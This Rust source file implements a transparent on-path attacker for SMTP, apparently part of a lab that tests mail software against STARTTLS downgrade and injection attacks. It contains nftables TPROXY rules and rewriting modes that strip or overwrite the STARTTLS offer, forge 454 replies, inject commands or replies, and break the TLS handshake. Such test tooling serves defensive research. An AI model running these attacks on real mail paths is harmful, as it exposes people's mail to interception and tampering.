//! The attacker on the path: a transparent rewriter of the plaintext SMTP dialogue.
//!
//! nf_tables TPROXY hands it the connections that cross the router. To each end it uses the address and port of
//! the other end (`IP_TRANSPARENT` on both legs), so neither end sees an address change. striptls and the carriers'
//! proxies of docs/threats.md A1, A2 and C1 work in the same way.

use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU8, AtomicUsize, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, anyhow};
use nix::sys::socket::{AddressFamily, Backlog, SockFlag, SockType, SockaddrStorage, sockopt};
use nix::sys::socket::{bind, connect, listen, setsockopt, socket};
use nix::sys::time::TimeVal;

use crate::Skip;
use crate::netns::Namespace;

/// Port of the rewriter in the router's namespace.
const PORT: u16 = 10025;
/// Connections that are rewritten at one time; one more is refused.
const MAX_CONNECTIONS: usize = 128;
/// A connection without traffic for this long is closed.
const IDLE: Duration = Duration::from_secs(60);
/// Interval at which a blocked thread checks the stop flag.
const TICK: Duration = Duration::from_millis(100);
/// Longest command or reply that is buffered for editing; a longer one is forwarded unedited.
const MAX_HELD: usize = 64 * 1024;
/// Pause between two bytes in cutting mode, so that each travels as its own segment.
const CUT_PAUSE: Duration = Duration::from_micros(200);

/// How the attacker changes the dialogue.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
#[repr(u8)]
pub enum Mode {
    /// Forwards every byte unchanged.
    Pass,
    /// The STARTTLS line is deleted and the reply's last line repaired (docs/threats.md A1).
    Delete,
    /// The keyword is overwritten in place, the length kept: `250-XXXXXXXA` (docs/threats.md A2).
    Overwrite,
    /// STARTTLS does not reach the server; the rewriter answers 454 (docs/threats.md C1).
    Forge454,
    /// The verb STARTTLS is overwritten on its way to the server (docs/threats.md C4).
    OverwriteVerb,
    /// A command follows STARTTLS in cleartext, so that the server may run it under TLS (docs/threats.md E1).
    InjectCommand,
    /// A reply follows the go-ahead in cleartext, so that the client may take it for one under TLS (docs/threats.md
    /// E2).
    InjectReply,
    /// The go-ahead passes, and the connection is closed before TLS can begin (docs/threats.md D1).
    Sabotage,
}

impl Mode {
    const ALL: [Self; 8] = [
        Self::Pass,
        Self::Delete,
        Self::Overwrite,
        Self::Forge454,
        Self::OverwriteVerb,
        Self::InjectCommand,
        Self::InjectReply,
        Self::Sabotage,
    ];
}

/// The running rewriter; dropping it ends it.
#[derive(Debug)]
pub struct Attacker {
    shared: Arc<Shared>,
    thread: Option<JoinHandle<Result<()>>>,
}

#[derive(Debug, Default)]
struct Shared {
    mode: AtomicU8,
    cut: AtomicBool,
    stop: AtomicBool,
    connections: AtomicUsize,
    edits: AtomicUsize,
}

impl Attacker {
    /// Starts the rewriter: TCP connections to ports 25 and 587 through `router` are redirected to it, in mode
    /// [`Mode::Pass`].
    ///
    /// # Errors
    /// [`Skip`] when the kernel lacks TPROXY; otherwise the failure.
    pub fn start(router: &Namespace) -> Result<Self> {
        router.nft(RULES).map_err(|error| Skip(format!("nf_tables has no TPROXY for the attacker: {error:#}")))?;
        for family in ["-4", "-6"] {
            router.ip(&[family, "rule", "add", "fwmark", "1", "lookup", "100"])?;
            router.ip(&[family, "route", "add", "local", "default", "dev", "lo", "table", "100"])?;
        }
        let listeners = router.run(|| {
            [IpAddr::V4(Ipv4Addr::UNSPECIFIED), IpAddr::V6(Ipv6Addr::UNSPECIFIED)]
                .map(|address| listener(SocketAddr::new(address, PORT)))
        })?;
        let [v4, v6] = listeners;
        let listeners = [v4?, v6?];
        let shared = Arc::new(Shared::default());
        let thread = router.spawn({
            let shared = Arc::clone(&shared);
            move || accept_loop(&listeners, &shared)
        })?;
        Ok(Self { shared, thread: Some(thread) })
    }

    /// Sets the mode of connections accepted from here on; open connections keep theirs.
    pub fn set_mode(&self, mode: Mode) {
        self.shared.mode.store(mode as u8, Ordering::SeqCst);
    }

    /// Sets whether every byte of the cleartext phase is sent as a segment of its own.
    pub fn cut_every_octet(&self, cut: bool) {
        self.shared.cut.store(cut, Ordering::SeqCst);
    }

    /// How many lines or replies were edited or forged.
    #[must_use]
    pub fn edits(&self) -> usize {
        self.shared.edits.load(Ordering::SeqCst)
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.shared.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// nftables rules: established transparent sockets first, then connections to the mail ports. The table names are used
/// by the lab alone.
const RULES: &str = "\
table inet attacker {
  chain prerouting {
    type filter hook prerouting priority mangle;
    meta l4proto tcp socket transparent 1 meta mark set 1 accept
    meta nfproto ipv4 tcp dport { 25, 587 } tproxy ip to :10025 meta mark set 1 accept
    meta nfproto ipv6 tcp dport { 25, 587 } tproxy ip6 to :10025 meta mark set 1 accept
  }
}
";

fn transparent(address: SocketAddr) -> Result<OwnedFd> {
    let family = if address.is_ipv4() { AddressFamily::Inet } else { AddressFamily::Inet6 };
    let fd = socket(family, SockType::Stream, SockFlag::SOCK_CLOEXEC, None)?;
    setsockopt(&fd, sockopt::ReuseAddr, &true)?;
    if address.is_ipv6() {
        setsockopt(&fd, sockopt::Ipv6V6Only, &true)?;
    }
    // Linux takes the option at level IP for an IPv6 stream socket too: one bit serves both families.
    setsockopt(&fd, sockopt::IpTransparent, &true).context("IP_TRANSPARENT")?;
    bind(fd.as_raw_fd(), &SockaddrStorage::from(address)).with_context(|| format!("bind {address}"))?;
    Ok(fd)
}

fn listener(address: SocketAddr) -> Result<TcpListener> {
    let fd = transparent(address)?;
    listen(&fd, Backlog::new(128)?)?;
    let listener = TcpListener::from(fd);
    listener.set_nonblocking(true)?;
    Ok(listener)
}

/// Connects to `server` from the client's own address and port.
fn impersonate(client: SocketAddr, server: SocketAddr) -> Result<TcpStream> {
    let fd = transparent(client)?;
    setsockopt(&fd, sockopt::SendTimeout, &TimeVal::new(10, 0))?;
    connect(fd.as_raw_fd(), &SockaddrStorage::from(server)).with_context(|| format!("connect {server} as {client}"))?;
    Ok(TcpStream::from(fd))
}

fn accept_loop(listeners: &[TcpListener; 2], shared: &Arc<Shared>) {
    let mut open: Vec<JoinHandle<()>> = Vec::new();
    while !shared.stop.load(Ordering::SeqCst) {
        let mut idle = true;
        for listener in listeners {
            let Ok((stream, _)) = listener.accept() else { continue };
            idle = false;
            open.retain(|thread| !thread.is_finished());
            if open.len() < MAX_CONNECTIONS {
                let shared = Arc::clone(shared);
                // An error of one connection ends that connection, as it would on a real path.
                open.push(std::thread::spawn(move || drop(serve(&stream, &shared))));
            }
        }
        if idle {
            std::thread::sleep(Duration::from_millis(2));
        }
    }
    open.into_iter().for_each(|thread| drop(thread.join()));
}

/// State of one connection, shared by both directions.
struct Dialogue<'a> {
    mode: Mode,
    cut: bool,
    /// STARTTLS was sent to the server and the reply is pending.
    asked: AtomicBool,
    /// The server replied 354: the client's lines are message content.
    in_data: AtomicBool,
    /// The rest of the stream is TLS or otherwise not parsed.
    opaque: AtomicBool,
    /// The connection is to be closed on both sides.
    broken: AtomicBool,
    shared: &'a Shared,
}

fn serve(client: &TcpStream, shared: &Shared) -> Result<()> {
    shared.connections.fetch_add(1, Ordering::SeqCst);
    let server = impersonate(client.peer_addr()?, client.local_addr()?)?;
    for stream in [client, &server] {
        stream.set_nonblocking(false)?;
        stream.set_nodelay(true)?;
        stream.set_read_timeout(Some(TICK))?;
    }
    let mode = shared.mode.load(Ordering::SeqCst);
    let dialogue = Dialogue {
        mode: Mode::ALL.into_iter().find(|known| *known as u8 == mode).ok_or_else(|| anyhow!("mode {mode}"))?,
        cut: shared.cut.load(Ordering::SeqCst),
        asked: AtomicBool::new(false),
        in_data: AtomicBool::new(false),
        opaque: AtomicBool::new(false),
        broken: AtomicBool::new(false),
        shared,
    };
    std::thread::scope(|scope| {
        let up = scope.spawn(|| dialogue.pump(client, &server, |held| dialogue.command(held, client)));
        let down = dialogue.pump(&server, client, |held| Ok(dialogue.reply(held)));
        let up = up.join().map_err(|_| anyhow!("a rewriting thread panicked"))?;
        up.and(down)
    })
}

impl Dialogue<'_> {
    /// Copies `from` to `to`. While the dialogue is in cleartext, `edit` receives the buffered bytes, removes the
    /// complete units (lines, replies) from their front and returns the bytes to send instead.
    fn pump(
        &self,
        mut from: &TcpStream,
        mut to: &TcpStream,
        edit: impl Fn(&mut Vec<u8>) -> Result<Vec<u8>>,
    ) -> Result<()> {
        let (mut held, mut buffer, mut heard) = (Vec::new(), [0; 16 * 1024], Instant::now());
        loop {
            let count = match from.read(&mut buffer) {
                Ok(0) => break,
                Ok(count) => count,
                Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                    if self.shared.stop.load(Ordering::SeqCst) || heard.elapsed() > IDLE {
                        break;
                    }
                    continue;
                }
                Err(_) => break,
            };
            heard = Instant::now();
            held.extend_from_slice(&buffer[..count]);
            let clear = !self.opaque.load(Ordering::SeqCst);
            let mut send = if clear { edit(&mut held)? } else { Vec::new() };
            if self.opaque.load(Ordering::SeqCst) || held.len() > MAX_HELD {
                send.append(&mut held);
            }
            if self.cut && clear {
                for octet in send {
                    to.write_all(&[octet])?;
                    std::thread::sleep(CUT_PAUSE);
                }
            } else {
                to.write_all(&send)?;
            }
            if self.broken.load(Ordering::SeqCst) {
                // Either end may have closed already.
                let _ = (to.shutdown(Shutdown::Both), from.shutdown(Shutdown::Both));
                return Ok(());
            }
        }
        to.write_all(&held)?;
        // The other end may have closed first.
        let _ = to.shutdown(Shutdown::Write);
        Ok(())
    }

    fn command(&self, held: &mut Vec<u8>, mut client: &TcpStream) -> Result<Vec<u8>> {
        let mut send = Vec::new();
        while let Some(end) = held.iter().position(|octet| *octet == b'\n') {
            let line: Vec<u8> = held.drain(..=end).collect();
            if line.trim_ascii().eq_ignore_ascii_case(b"STARTTLS") && !self.in_data.load(Ordering::SeqCst) {
                let instead: &[u8] = match self.mode {
                    Mode::Forge454 => {
                        client.write_all(b"454 TLS not available due to temporary reason\r\n")?;
                        b""
                    }
                    Mode::OverwriteVerb => b"XXXXXXXX\r\n",
                    Mode::InjectCommand => b"STARTTLS\r\nNOOP injected\r\n",
                    Mode::Pass | Mode::Delete | Mode::Overwrite | Mode::InjectReply | Mode::Sabotage => &line,
                };
                if instead != line {
                    self.shared.edits.fetch_add(1, Ordering::SeqCst);
                }
                send.extend_from_slice(instead);
                self.asked.store(!matches!(self.mode, Mode::Forge454), Ordering::SeqCst);
                continue;
            }
            send.extend_from_slice(&line);
        }
        Ok(send)
    }

    fn reply(&self, held: &mut Vec<u8>) -> Vec<u8> {
        let mut send = Vec::new();
        while let Some(end) = reply_end(held) {
            let reply: Vec<u8> = held.drain(..end).collect();
            self.in_data.store(reply.starts_with(b"354"), Ordering::SeqCst);
            if self.asked.swap(false, Ordering::SeqCst) && reply.starts_with(b"2") {
                self.opaque.store(true, Ordering::SeqCst);
                send.extend_from_slice(&reply);
                if self.mode == Mode::InjectReply {
                    send.extend_from_slice(b"250 injected\r\n");
                }
                self.broken.store(self.mode == Mode::Sabotage, Ordering::SeqCst);
                let edited = matches!(self.mode, Mode::InjectReply | Mode::Sabotage);
                self.shared.edits.fetch_add(usize::from(edited), Ordering::SeqCst);
                continue;
            }
            match rewrite(&reply, self.mode) {
                Some(edited) => {
                    self.shared.edits.fetch_add(1, Ordering::SeqCst);
                    send.extend_from_slice(&edited);
                }
                None => send.extend_from_slice(&reply),
            }
        }
        send
    }
}

/// Returns the length of the first complete reply in `held`: it ends with the first line that is not a continuation
/// (`NNN-`).
fn reply_end(held: &[u8]) -> Option<usize> {
    let mut start = 0;
    while let Some(length) = held[start..].iter().position(|octet| *octet == b'\n') {
        let line = &held[start..=start + length];
        start += length + 1;
        if line.get(3) != Some(&b'-') {
            return Some(start);
        }
    }
    None
}

/// The edited EHLO reply; `None` if there is nothing to edit.
fn rewrite(reply: &[u8], mode: Mode) -> Option<Vec<u8>> {
    let mut lines: Vec<Vec<u8>> = reply.split_inclusive(|octet| *octet == b'\n').map(<[u8]>::to_vec).collect();
    let at = lines.iter().skip(1).position(|line| {
        line.starts_with(b"250")
            && line.get(4..).is_some_and(|word| word.trim_ascii().eq_ignore_ascii_case(b"STARTTLS"))
    })? + 1;
    match mode {
        Mode::Pass
        | Mode::Forge454
        | Mode::OverwriteVerb
        | Mode::InjectCommand
        | Mode::InjectReply
        | Mode::Sabotage => return None,
        Mode::Delete => drop(lines.remove(at)),
        Mode::Overwrite => lines[at][4..12].copy_from_slice(b"XXXXXXXA"),
    }
    if let Some(separator) = lines.last_mut().and_then(|last| last.get_mut(3)) {
        *separator = b' ';
    }
    Some(lines.concat())
}

#[cfg(test)]
mod tests {
    use super::*;

    const REPLY: &[u8] = b"250-mx1.example.net\r\n250-SIZE 1000\r\n250-STARTTLS\r\n250 8BITMIME\r\n";

    #[test]
    fn deletion_takes_one_line_and_keeps_a_terminator() {
        assert_eq!(
            rewrite(REPLY, Mode::Delete).as_deref(),
            Some(&b"250-mx1.example.net\r\n250-SIZE 1000\r\n250 8BITMIME\r\n"[..])
        );
        assert_eq!(
            rewrite(b"250-mx1.example.net\r\n250-SIZE 1000\r\n250 STARTTLS\r\n", Mode::Delete).as_deref(),
            Some(&b"250-mx1.example.net\r\n250 SIZE 1000\r\n"[..])
        );
    }

    #[test]
    fn overwriting_keeps_the_length() {
        assert_eq!(
            rewrite(REPLY, Mode::Overwrite).as_deref(),
            Some(&b"250-mx1.example.net\r\n250-SIZE 1000\r\n250-XXXXXXXA\r\n250 8BITMIME\r\n"[..])
        );
    }

    #[test]
    fn other_replies_pass() {
        assert_eq!(rewrite(b"250 2.1.0 Ok\r\n", Mode::Delete), None);
        assert_eq!(rewrite(REPLY, Mode::Pass), None);
        assert_eq!(reply_end(b"250-a\r\n250 b\r\n354 c\r\n"), Some(14));
        assert_eq!(reply_end(b"250-a\r\n250 b"), None);
    }
}
